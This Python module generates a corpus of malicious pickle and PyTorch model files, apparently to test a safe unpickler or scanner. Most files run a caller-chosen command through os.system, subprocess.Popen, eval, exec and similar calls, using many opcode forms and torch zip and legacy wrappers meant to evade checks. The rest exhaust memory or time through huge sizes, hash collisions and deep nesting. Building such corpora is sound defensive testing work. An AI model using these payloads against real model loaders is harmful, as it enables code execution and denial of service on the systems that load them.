"""Files that want to be unpickled: each asks to run a command, or takes all memory, all time or the process with it.

`files` has a maker for each, of the command it would run; `write` makes a folder of them.
"""

from __future__ import annotations

import io
import pickle
import struct
import warnings
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path

MAGIC, PROTOCOL = 0x1950A86A20F9469CFC6C, 1001


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def number(value: int) -> bytes:
    content = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(content)]) + content


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def group(*parts: bytes) -> bytes:
    return b"(" + b"".join(parts) + b"t"


def call(module: str, attribute: str, *arguments: bytes) -> bytes:
    return name(module, attribute) + group(*arguments) + b"R"


def storage(key: str = "0", numel: int = 6, kind: str = "FloatStorage", *view: bytes) -> bytes:
    return group(text("storage"), name("torch", kind), text(key), text("cpu"), number(numel), *view) + b"Q"


def tensor(place: bytes, offset: int = 0, size: Sequence[int] = (2, 3), stride: Sequence[int] = (3, 1)) -> bytes:
    shape = group(*map(number, size)), group(*map(number, stride))
    return call("torch._utils", "_rebuild_tensor_v2", place, number(offset), *shape, b"\x89", b"N")


def torch_zip(
    content: bytes, entries: Sequence[tuple[str, bytes]] = (("data/0", bytes(24)),), method: int = 0
) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of two entries of one name
        for entry, value in [("data.pkl", content), ("version", b"3\n"), *entries]:
            archive.writestr(f"archive/{entry}", value)
    return file.getvalue()


SYSTEM = pickle.dumps({"protocol_version": PROTOCOL, "little_endian": True}, protocol=2)


def legacy(content: bytes, keys: Sequence[str] = (), data: bytes = b"", system: bytes = SYSTEM) -> bytes:
    parts = [pickle.dumps(MAGIC, 2), pickle.dumps(PROTOCOL, 2), system, content, pickle.dumps(list(keys), 2), data]
    return b"".join(parts)


def six() -> bytes:
    """The bytes of the storage that `storage()` asks a legacy file for."""
    return struct.pack("<q6f", 6, *range(6))


Maker = Callable[[str], bytes]


def _reduces(command: str, module: str, attribute: str, *more: bytes) -> bytes:
    return call(module, attribute, text(command), *more) + b"."


def _python(command: str) -> str:
    return f"__import__('os').system({command!r})"


CALLS = {
    "posix.system": ("posix", "system"),
    "nt.system": ("nt", "system"),
    "os.system": ("os", "system"),
    "subprocess.Popen": ("subprocess", "Popen"),
    "functools.partial": ("functools", "partial"),
    "operator.attrgetter": ("operator", "attrgetter"),
    "importlib.import_module": ("importlib", "import_module"),
    "torch.hub.load": ("torch.hub", "load"),
    "torch.load": ("torch", "load"),
    "torch.storage._load_from_bytes": ("torch.storage", "_load_from_bytes"),
    "torch._utils.import_module": ("torch._utils", "import_module"),
    "torch.jit.load": ("torch.jit", "load"),
    "pickle.loads": ("pickle", "loads"),
    "numpy.load": ("numpy", "load"),
    "runpy.run_path": ("runpy", "run_path"),
    "codecs.decode": ("codecs", "decode"),
    "utilsx.run": ("utilsx", "run"),
}
BUILTINS = ("eval", "exec", "getattr", "setattr", "__import__", "compile", "open", "breakpoint", "memoryview", "type")


def _of_calls() -> dict[str, Maker]:
    files: dict[str, Maker] = {
        f"call-{title}": lambda command, names=names: _reduces(command, *names) for title, names in CALLS.items()
    }
    for module in ("builtins", "__builtin__"):
        files |= {
            f"call-{module}.{builtin}": lambda command, module=module, builtin=builtin: _reduces(
                _python(command), module, builtin
            )
            for builtin in BUILTINS
        }
    run = lambda command: call("posix", "system", text(command))  # noqa: E731
    stand_in = name("mem_transformer", "MemTransformerLM") + b")\x81}" + text("vocab")
    return files | {
        "form-new-object": lambda command: name("posix", "system") + group(text(command)) + b"\x81.",
        "form-new-object-ex": lambda command: name("posix", "system") + group(text(command)) + b"}\x92.",
        "operation-inst": lambda command: b"(" + text(command) + b"iposix\nsystem\n.",
        "form-obj": lambda command: b"(" + name("posix", "system") + text(command) + b"o.",
        "form-stack-global": lambda command: text("posix") + text("system") + b"\x93" + group(text(command)) + b"R.",
        "form-dotted": lambda command: text("utils") + text("os.system") + b"\x93" + group(text(command)) + b"R.",
        "form-dotted-torch": lambda command: text("torch") + text("os.system") + b"\x93" + group(text(command)) + b"R.",
        "operation-extension-1": lambda command: b"\x82\1" + group(text(command)) + b"R.",
        "operation-extension-2": lambda command: b"\x83\1\0" + group(text(command)) + b"R.",
        "operation-extension-4": lambda command: b"\x84\1\0\0\0" + group(text(command)) + b"R.",
        "operation-persistent": lambda command: b"P" + command.encode() + b"\n.",
        "form-persistent-binary": lambda command: text(command) + b"Q.",
        "operation-buffer": lambda command: b"\x80\5\x97.",
        "nested": lambda command: stand_in + b"]}" + text("a") + run(command) + b"sasb.",
        "nested-popped": lambda command: run(command) + b"0N.",
        "nested-in-reconstructor": lambda command: (
            call("copy_reg", "_reconstructor", name("posix", "system"), name("__builtin__", "object"), text(command))
            + b"."
        ),
        "call-of-a-call": lambda command: (
            call("utils", "get", text("os")) + group(text("system")) + b"R" + group(text(command)) + b"R."
        ),
        "call-of-text": lambda command: text("os.system") + group(text(command)) + b"R.",
        "zip-call": lambda command: torch_zip(run(command) + b"."),
        "zip-call-beside-tensor": lambda command: torch_zip(group(tensor(storage()), run(command)) + b"."),
        "zip-call-as-storage": lambda command: torch_zip(
            group(text("storage"), name("posix", "system"), text("0"), text("cpu"), number(6)) + b"Q."
        ),
        "legacy-call": lambda command: legacy(run(command) + b"."),
        "legacy-call-in-system": lambda command: legacy(b"N.", system=run(command) + b"."),
        "legacy-call-as-module": lambda command: legacy(
            group(text("module"), name("posix", "system"), text(command), text(command)) + b"Q)R."
        ),
        "legacy-call-in-keys": lambda command: legacy(b"N.")[: -len(pickle.dumps([], 2))] + run(command) + b".",
    }


def _of_sizes(many: int) -> dict[str, bytes]:
    absurd = {
        "storage-of-2**40": tensor(storage(numel=1 << 40)),
        "storage-of-2**60": tensor(storage(numel=1 << 60)),
        "storage-negative": tensor(storage(numel=-6)),
        "storage-missing": tensor(storage("1")),
        "storage-of-no-type": tensor(storage(kind="device")),
        "tensor-of-2**40-by-stride-0": tensor(storage(), size=(1 << 40,), stride=(0,)),
        "tensor-too-large": tensor(storage(), size=(3, 3)),
        "tensor-stride-too-large": tensor(storage(), stride=(1 << 40, 1)),
        "tensor-offset": tensor(storage(), offset=1),
        "tensor-offset-negative": tensor(storage(), offset=-1),
        "tensor-size-negative": tensor(storage(), size=(-2, -3)),
        "tensor-stride-negative": tensor(storage(), stride=(-3, 1)),
        "tensor-without-strides": tensor(storage(), stride=(1,)),
        "tensor-of-no-storage": tensor(text("0")),
        "tensor-of-many-dimensions": tensor(storage(), size=(1,) * 1000, stride=(1,) * 1000),
    }
    files = {f"zip-{title}": torch_zip(content + b".") for title, content in absurd.items()}
    files |= {f"legacy-{title}": legacy(content + b".", "0", six()) for title, content in absurd.items()}
    view = storage("0", 6, "FloatStorage", group(text("1"), number(4), number(4)))
    whole = legacy(tensor(storage()) + b".", "0", six())
    return files | {
        "legacy-view-too-large": legacy(tensor(view) + b".", "0", six()),
        "legacy-keys-twice": legacy(tensor(storage()) + b".", "00", six() * 2),
        "legacy-cut": whole[:-1],
        "legacy-trailing": whole + b"\0",
        "legacy-big-endian": legacy(b"N.", system=pickle.dumps({"little_endian": False}, 2)),
        "memo-of-2**31": b"Nr" + struct.pack("<I", 1 << 31) + b".",
        "memo-of-chosen-numbers": b"N" + b"".join(b"r" + struct.pack("<I", i << 6) for i in range(many)) + b".",
        "memo-missing": b"h\5.",
        "bytes-of-2**60": b"\x8e" + struct.pack("<Q", 1 << 60) + b"x.",
        "text-of-2**32": b"X" + struct.pack("<I", (1 << 32) - 1) + b"x.",
        "text-of-negative": b"T" + struct.pack("<i", -1) + b"x.",
        "integer-of-2**24-bytes": b"\x8b" + struct.pack("<I", 1 << 24) + bytes(1 << 24) + b".",
        "frame-of-2**60": b"\x80\4\x95" + struct.pack("<Q", 1 << 60),
    }


def _of_keys() -> dict[str, bytes]:
    """Keys whose hashes the file chooses, a few too many for one container or in several."""
    equal = [number(i * ((1 << 61) - 1)) for i in range(4097)]
    return {
        "keys-of-equal-hash": b"}(" + b"N".join(equal) + b"Nu.",
        "keys-one-by-one": b"}" + b"".join(key + b"Ns" for key in equal) + b".",
        "keys-of-fractions": b"}(" + b"".join(b"G" + struct.pack(">d", i << 40) + b"N" for i in range(4097)) + b"u.",
        "keys-of-a-set": b"\x8f(" + b"".join(equal) + b"\x90.",
        "keys-of-a-frozenset": b"(" + b"".join(equal) + b"\x91.",
        "keys-of-a-called-set": name("builtins", "set") + b"](" + b"".join(equal) + b"e\x85R.",
        "keys-of-tuples": b"}" + group(text("a"), text("b")) + b"Ns.",
    }


def module(arrays: bytes, modules: bytes) -> bytes:
    """A pickled module of these `_parameters` and `_modules`."""
    state = text("_parameters"), arrays, text("_buffers"), b"}", text("_modules"), modules
    return name("mem_transformer", "MemTransformerLM") + b")\x81}(" + b"".join(state) + b"ub"


def _of_modules() -> dict[str, bytes]:
    """Modules that hold one and the same module under two names, and so on, or have long ones."""
    arrays = b"}(" + b"".join(text(f"t{i}") + b"h\0" for i in range(2000)) + b"u"
    doubled = long = tensor(storage()) + b"q\0000" + module(arrays, b"}") + b"q\1"
    for memo in range(1, 12):
        child, put = b"h" + bytes([memo]), b"q" + bytes([memo + 1])
        doubled += b"0" + module(b"}", b"}(" + text("a") + child + text("b") + child + b"u") + put
        long += b"0" + module(b"}", b"}" + text("x" * 50000) + child + b"s") + put
    return {"module-doubled": torch_zip(doubled + b"."), "module-of-long-names": torch_zip(long + b".")}


def structures(many: int) -> dict[str, bytes]:
    """Files of nothing but plain values: too deep, too many, or held by themselves."""
    doubled = b")" + b"2\x86" * 64
    return {
        "deep-lists": b"]" * many + b"a" * (many - 1) + b".",
        "deep-tuples": b")" + b"\x85" * many + b".",
        "deep-dicts": b"}K\0" * many + b"}" + b"s" * many + b".",
        "deep-objects": name("utils", "A") + b"q\0)q\1" + b"0h\0h\1R\x85q\1" * (many // 10) + b"00h\1.",
        "deep-cut": b"]" * many,
        "deep-key": b"})" + b"\x85" * many + b"Ns.",
        "doubled-key": b"}" + doubled + b"Ns.",
        "doubled-set": b"(" + doubled + b"\x91.",
        "doubled": doubled + b".",
        "doubled-lists": b"]q\0" + b"0](h\0h\0eq\0" * 64 + b".",
        "list-in-itself": b"]q\0h\0a.",
        "dict-in-itself": b"}q\0K\1h\0s.",
        "object-in-itself": name("utils", "A") + b")\x81q\0}" + text("me") + b"h\0sb.",
        "tuple-in-itself": b"]q\0h\0\x85a.",
        "two-in-each-other": b"]q\0]q\1h\0aa.",
        "list-as-key": b"}]Ns.",
        "marks": b"(" * many + b".",
        "empty-dicts": b"(" + b"}" * (20 * many) + b"t.",
        "tensors": torch_zip(_tensors(many)),
    }  # fmt: skip


def _tensors(many: int) -> bytes:
    """The same tensor, rebuilt again and again and dropped."""
    arguments = group(storage(), number(0), group(number(2)), group(number(1)), b"\x89", b"N")
    rebuild = name("torch._utils", "_rebuild_tensor_v2")
    return rebuild + b"q\0" + arguments + b"q\1" + b"h\0h\1R0" * many + b"00N."


def _of_files(many: int) -> dict[str, bytes]:
    plain = tensor(storage()) + b"."
    zeros = torch_zip(b"(" + b"N" * 100 * many + b"t.", (), zipfile.ZIP_DEFLATED)
    return {
        "zip-deflated-pickle": zeros,
        "zip-deflated-data": torch_zip(plain, [("data/0", bytes(100 * many))], zipfile.ZIP_DEFLATED),
        "zip-bzip2": torch_zip(plain, [("data/0", bytes(24))], zipfile.ZIP_BZIP2),
        "zip-cut": torch_zip(plain)[:-30],
        "zip-trailing-in-pickle": torch_zip(plain + b"N"),
        "zip-without-pickle": torch_zip(plain).replace(b"data.pkl", b"data.pkx"),
        "zip-with-two-pickles": torch_zip(plain, [("b/data.pkl", plain)]).replace(b"e/b/", b"e_b/"),
        "empty": b"",
        "one-byte": b".",
        "trailing": b"N.N",
        "unknown-operation": b"\xff.",
        "protocol-6": b"\x80\6N.",
        "tar": b"sys_info".ljust(257, b"\0") + b"ustar".ljust(255, b"\0"),
        "gzip": b"\x1f\x8b\x08\0" + bytes(100),
        "safetensors": struct.pack("<Q", 8) + b"{}      ",
        "text": b"Once upon a time\n there was a file.\n",
        "code": b"import os\nimport sys\n",
    }


def files(many: int = 10**6) -> dict[str, Maker]:
    """By name, what makes the content of each file out of the command it would run; `many` is how large they are."""
    plain = _of_sizes(many) | _of_keys() | structures(many) | _of_modules() | _of_files(many)
    return _of_calls() | {title: lambda command, content=content: content for title, content in plain.items()}


def write(folder: Path, command: str, many: int = 10**6) -> list[Path]:
    """Make all of the files in `folder`."""
    folder.mkdir(parents=True, exist_ok=True)
    for title, make in files(many).items():
        (folder / title).write_bytes(make(command))
    return sorted(folder.iterdir())
